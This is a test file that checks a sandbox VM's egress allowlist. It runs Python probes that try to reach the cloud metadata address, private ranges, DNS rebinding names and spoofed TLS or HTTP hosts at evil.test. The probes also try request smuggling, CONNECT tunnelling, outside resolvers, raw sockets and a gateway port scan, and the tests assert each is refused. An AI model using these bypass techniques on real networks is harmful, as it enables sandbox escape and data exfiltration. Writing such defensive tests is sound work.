/** Egress with an allowlist: everything that hostile code tries from a real VM is refused, told, and has reached nobody. */
import assert from "node:assert/strict";
import os from "node:os";
import test, { type TestContext } from "node:test";
import type { NetworkEvent } from "../../../src/mod.ts";
import { all, assertOutcomes, ATTACK_TOOLS, type Expected } from "../../support/attacks.ts";
import { noLeftovers } from "../../support/leftovers.ts";
import { service } from "../../support/net_peer.ts";
import { certificatesFor, dnsService, httpService, withEnvironment } from "../../support/net_services.ts";
import { reasonToSkip, withScheduler } from "../../support/scheduler.ts";

/** Kernels without IPv6 say so themselves. */
const NO_IPV6 = ["refused", "ENETUNREACH", "EADDRNOTAVAIL", "EHOSTUNREACH", "EAFNOSUPPORT"];

const options = () => {
  const skip = reasonToSkip();
  return skip === undefined ? { timeout: 300_000 } : { skip };
};

/** Runs `code` in a VM that may reach api.example.com, b.example.com and db.example.com:5432; returns what each attempt printed. */
async function attack(
  t: TestContext,
  code: string,
  expected: Expected,
): Promise<{ events: NetworkEvent[]; got: string[] }> {
  const certificates = certificatesFor(t, ["api.example.com", "b.example.com"]),
    secure = await httpService(t, certificates),
    plain = await httpService(t),
    got = secure.requests;
  const database = await service(t, (socket) => socket.on("data", () => got.push("database")));
  await dnsService(t, {
    "rebind4.example.com": ["127.0.0.1"],
    "rebind10.example.com": ["10.0.0.1", "192.168.0.1"],
    "rebindmeta.example.com": ["169.254.169.254"],
    "public.example.com": ["203.0.113.5"],
    "evil.test": ["203.0.113.66"],
  });
  withEnvironment(t, {
    SSL_CERT_FILE: certificates.authorityFile,
    NODE_EXTRA_CA_CERTS: undefined,
    HTTPS_PROXY: undefined,
    https_proxy: undefined,
  });
  const events: NetworkEvent[] = [];
  const networkHosts = {
    ...Object.fromEntries(
      ["api.example.com", "b.example.com"].flatMap((
        name,
      ) => [[`${name}:443`, `127.0.0.1:${secure.port}`], [`${name}:80`, `127.0.0.1:${plain.port}`]]),
    ),
    "db.example.com:5432": `127.0.0.1:${database}`,
  };
  const { stdout, stderr } = await withScheduler(
    (scheduler) =>
      scheduler.run({
        language: "python",
        timeoutSeconds: 120,
        allowedDomains: ["api.example.com", "b.example.com", "example.com:9", "db.example.com:5432"],
        onNetworkEvent: (event) => void events.push(event),
        code: `${ATTACK_TOOLS}\n${code}`,
      }),
    {},
    { networkHosts },
  );
  assert.equal(stderr, "");
  assertOutcomes(stdout, expected);
  got.push(...plain.requests);
  return { events, got };
}
const reasons = (events: readonly NetworkEvent[]) =>
  new Set(events.filter(({ verdict }) => verdict !== "allowed").map(({ kind, reason }) => `${kind} ${reason}`));

test("egress: addresses, names and ports that were not given", options(), async (t) => {
  const own = Object.values(os.networkInterfaces()).flat().find((entry) => entry?.family === "IPv4" && !entry.internal)?.address;
  const { events, got } = await attack(
    t,
    `
address('api.example.com'); address('public.example.com')
yardstick(tcp(address('db.example.com'), 5432))
for name, to, port in [('literal', '93.184.216.34', 443), ('foreign address', '203.0.113.66', 443), ('private', '10.0.0.1', 80), ('loopback of the host', '10.83.0.1', 22),
                       ('metadata', '169.254.169.254', 80), ('host name port', address('api.example.com'), 22), ('database port', address('db.example.com'), 443),
                       ('name on another port', '203.0.113.5', 443), ('carrier', '100.64.0.1', 443), ('multicast', '224.0.0.1', 80), ('broadcast', '255.255.255.255', 80), ('benchmarks', '198.19.0.1', 80),
                       ('reserved', '240.0.0.1', 80), ('this network', '0.1.2.3', 80), ('broadcast of the link', '10.83.0.3', 80), ('port zero', '203.0.113.5', 0), ('an address of the host', '${
      own ?? "10.0.0.1"
    }', 22)]:
    attempt(name, tcp(to, port, b'x'))
for name, to in [('datagram to reserved', '240.0.0.1'), ('datagram to many', '224.0.0.251'), ('datagram to all', '255.255.255.255'), ('datagram to this network', '0.1.2.3')]:
    attempt(name, udp(to, 5353, b'x'))
for name in ['other.test', 'evil.test', 'rebind4.example.com', 'rebind10.example.com', 'rebindmeta.example.com', 'example.com.evil.test', 'none.example.com']:
    attempt(name, lambda: address(name))
for name in ['::1', 'fe80::1%sbx0', '::ffff:203.0.113.66', '2001:db8::1', '64:ff9b::7f00:1']:
    attempt(name, tcp(name, 443, b'x'))
`,
    {
      ...all(["literal", "foreign address", "private", "loopback of the host", "metadata", "host name port", "database port"], "refused"),
      ...all(["name on another port", "carrier", "port zero", "an address of the host"], "refused"),
      ...all(["benchmarks", "reserved", "this network"], "EHOSTUNREACH"),
      // The guest's own kernel refuses these: there is no packet.
      ...all(["multicast", "broadcast", "broadcast of the link"], "ENETUNREACH"),
      ...all(["datagram to reserved", "datagram to many", "datagram to all", "datagram to this network"], "refused"),
      ...all(["other.test", "evil.test", "rebind4.example.com", "rebind10.example.com", "rebindmeta.example.com"], "no such name"),
      ...all(["example.com.evil.test", "none.example.com"], "no such name"),
      ...all(["::1", "::ffff:203.0.113.66", "fe80::1%sbx0", "2001:db8::1", "64:ff9b::7f00:1"], ...NO_IPV6),
    },
  );
  assert.deepEqual(got, []);
  for (
    const reason of [
      "tcp not-resolved",
      ...(own === undefined ? [] : ["tcp own"]),
      "tcp private",
      "tcp metadata",
      "tcp port",
      "tcp carrier-nat",
      "tcp reserved",
      "tcp unspecified",
      "udp reserved",
      "udp unspecified",
      "udp multicast",
      "dns name",
      "dns loopback",
      "dns private",
      "dns metadata",
      "dns not-found",
    ]
  ) {
    assert.ok(reasons(events).has(reason), `${reason} was told; ${[...reasons(events)].join(", ")}`);
  }
});

test("egress: what TLS shows", options(), async (t) => {
  const { events, got } = await attack(
    t,
    `
a, b = address('api.example.com'), address('b.example.com')
good = hello('api.example.com')
yardstick(tcp(a, 443, good))
attempt('the control', tcp(a, 443, good))
attempt('the control in pieces', tcp(a, 443, [good[:3], good[3:20], good[20:]]))
attempt('foreign name', tcp(a, 443, hello('evil.test')))
attempt('allowed name at another address', tcp(b, 443, good))
attempt('no name', tcp(a, 443, hello(None)))
attempt('encrypted hello', tcp(a, 443, hello('api.example.com', ech=True)))
attempt('foreign name in pieces', tcp(a, 443, [bytes([byte]) for byte in hello('evil.test')[:40]] + [hello('evil.test')[40:]]))
attempt('foreign name in records', tcp(a, 443, records(hello('evil.test'), 50)))
attempt('oversized', tcp(a, 443, b'\\x16\\x03\\x01\\x40\\x00\\x01\\x00\\xff\\xff' + bytes(16379)))
attempt('malformed', tcp(a, 443, b'\\x16\\x03\\x01\\x00\\x05\\x01\\x00\\x00\\x01\\x00'))
attempt('http on 443', tcp(a, 443, http('api.example.com')))
attempt('ssh on 443', tcp(a, 443, b'SSH-2.0-OpenSSH_9\\r\\n'))
attempt('tls on 80', tcp(a, 80, good))
attempt('numeric name', tcp(a, 443, hello('127.0.0.1') if False else good.replace(b'api.example.com', b'127.0.0.1......')))
`,
    {
      "the control": ["answer"],
      "the control in pieces": ["answer"],
      ...all(["foreign name", "allowed name at another address", "no name", "encrypted hello", "foreign name in pieces"], "cut"),
      ...all(["foreign name in records", "oversized", "malformed", "http on 443", "ssh on 443", "tls on 80", "numeric name"], "cut"),
    },
  );
  assert.deepEqual(got, []);
  for (const reason of ["server-name", "no-server-name", "encrypted-client-hello", "limit", "not-tls", "not-http"]) {
    assert.ok(reasons(events).has(`tcp ${reason}`), reason);
  }
});

test("egress: what HTTP shows", options(), async (t) => {
  const { events, got } = await attack(
    t,
    `
a = address('api.example.com')
one = http('api.example.com', 'GET /control HTTP/1.1')
yardstick(tcp(a, 80, one))
attempt('the control', tcp(a, 80, one))
attempt('foreign host', tcp(a, 80, http('evil.test')))
attempt('second request', tcp(a, 80, http('api.example.com', 'GET /first HTTP/1.1'), http('evil.test')))
attempt('pipelined', tcp(a, 80, http('evil.test', 'GET / HTTP/1.1') + one))
attempt('connect', tcp(a, 80, http('evil.test:443', 'CONNECT evil.test:443 HTTP/1.1')))
attempt('absolute', tcp(a, 80, http('api.example.com', 'GET http://evil.test/ HTTP/1.1')))
attempt('two hosts', tcp(a, 80, http('api.example.com', fields='Host: evil.test\\r\\n')))
attempt('folded', tcp(a, 80, http('api.example.com', fields=' Host: evil.test\\r\\n')))
attempt('length and chunks', tcp(a, 80, http('api.example.com', 'POST / HTTP/1.1', 'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n', '0\\r\\n\\r\\n' + http('evil.test').decode())))
attempt('two lengths', tcp(a, 80, http('api.example.com', 'POST / HTTP/1.1', 'Content-Length: 5\\r\\nContent-Length: 0\\r\\n', 'GET /')))
attempt('odd encoding', tcp(a, 80, http('api.example.com', 'POST / HTTP/1.1', 'Transfer-Encoding: chunked, identity\\r\\n', '0\\r\\n\\r\\n')))
attempt('chunk extension', tcp(a, 80, http('api.example.com', 'POST / HTTP/1.1', 'Transfer-Encoding: chunked\\r\\n', '0;\\nx\\r\\n\\r\\n')))
attempt('http2', tcp(a, 80, b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))
attempt('no host', tcp(a, 80, b'GET / HTTP/1.0\\r\\n\\r\\n'))
attempt('upgrade to http2', tcp(a, 80, http('api.example.com', fields='Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n') + b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'))
`,
    {
      "the control": ["answer"],
      ...all(["foreign host", "second request", "pipelined", "connect", "absolute", "two hosts", "folded", "length and chunks"], "cut"),
      ...all(["two lengths", "odd encoding", "chunk extension", "http2", "no host"], "cut"),
      "upgrade to http2": ["cut", "answer"], // The server may have answered the first request before the second is cut off.
    },
  );
  assert.deepEqual(got.filter((request) => !/ api\.example\.com \/(?:control|first)?$/.test(request)), []);
  for (const reason of ["host", "smuggling", "connect", "http2", "no-host"]) assert.ok(reasons(events).has(`tcp ${reason}`), reason);
});

test("egress: datagrams, other resolvers, other protocols, and a name of an allowed host that leads elsewhere", options(), async (t) => {
  const question =
    "b'\\\\x12\\\\x34\\\\1\\\\0\\\\0\\\\1\\\\0\\\\0\\\\0\\\\0\\\\0\\\\0\\\\3api\\\\7example\\\\3com\\\\0\\\\0\\\\1\\\\0\\\\1'".replaceAll(
      "\\\\",
      "\\",
    );
  const { events, got } = await attack(
    t,
    `
a = address('api.example.com')
q = ${question}
yardstick(tcp(address('db.example.com'), 5432))
attempt('dns to another', udp('8.8.8.8', 53, q))
attempt('dns to another over tcp', tcp('8.8.8.8', 53, struct.pack('>H', len(q)) + q))
attempt('dns over tls', tcp('1.1.1.1', 853, hello('one.example')))
attempt('dns over https', tcp('1.1.1.1', 443, hello('one.example')))
attempt('quic', udp(a, 443, b'\\xc0\\0\\0\\0\\1' + bytes(1200)))
attempt('ntp', udp('203.0.113.5', 123, bytes(48)))
attempt('a datagram to the gateway', udp('10.83.0.1', 9, b'x'))
def raw(kind, protocol):
    def work():
        with socket.socket(kind, socket.SOCK_RAW, protocol) as s: return 'open'
    return work
attempt('raw ip', raw(socket.AF_INET, socket.IPPROTO_RAW))
attempt('icmp', raw(socket.AF_INET, socket.IPPROTO_ICMP))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close() or 'open')
attempt('udp lite', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).close() or 'open')
attempt('sctp', lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect((a, 80)) or 'open')
import urllib.request
def redirect():
    try: urllib.request.urlopen('http://api.example.com/redirect?http://evil.test/', timeout=20); return 'followed'
    except urllib.error.URLError as error: return 'no such name' if isinstance(error.reason, socket.gaierror) else repr(error)
attempt('redirect', redirect)
open_ports = []
def scan():
    global paused
    slowest, began = 0, time.monotonic()
    for port in list(range(1, 60)) + [80, 443, 3306, 5432, 6379, 8080]:
        started = time.monotonic()
        with socket.socket() as s:
            s.settimeout(5)
            if s.connect_ex(('10.83.0.1', port)) == 0 and port not in open_ports: open_ports.append(port)
        slowest = max(slowest, time.monotonic() - started)
    paused += time.monotonic() - began - slowest # Each port within the limit.
    return str(open_ports)
attempt('scan of the gateway', scan)
`,
    {
      ...all(["dns to another", "quic", "ntp", "a datagram to the gateway"], "refused"),
      ...all(["dns to another over tcp", "dns over tls", "dns over https"], "refused"),
      "raw ip": ["EPERM", "EACCES"],
      icmp: ["EPERM", "EACCES"],
      packet: ["EPERM", "EACCES", "EAFNOSUPPORT"],
      "udp lite": ["EPROTONOSUPPORT"],
      sctp: ["EPERM", "EACCES", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT"],
      redirect: ["no such name"],
      "scan of the gateway": ["[]", "[53]"],
    },
  );
  assert.deepEqual([...new Set(got)], ["GET api.example.com /redirect?http://evil.test/"]); // Once for each attempt.
  for (const reason of ["udp udp", "tcp not-resolved", "dns name"]) {
    assert.ok(reasons(events).has(reason), `${reason}; ${[...reasons(events)].join(", ")}`);
  }
});

noLeftovers();
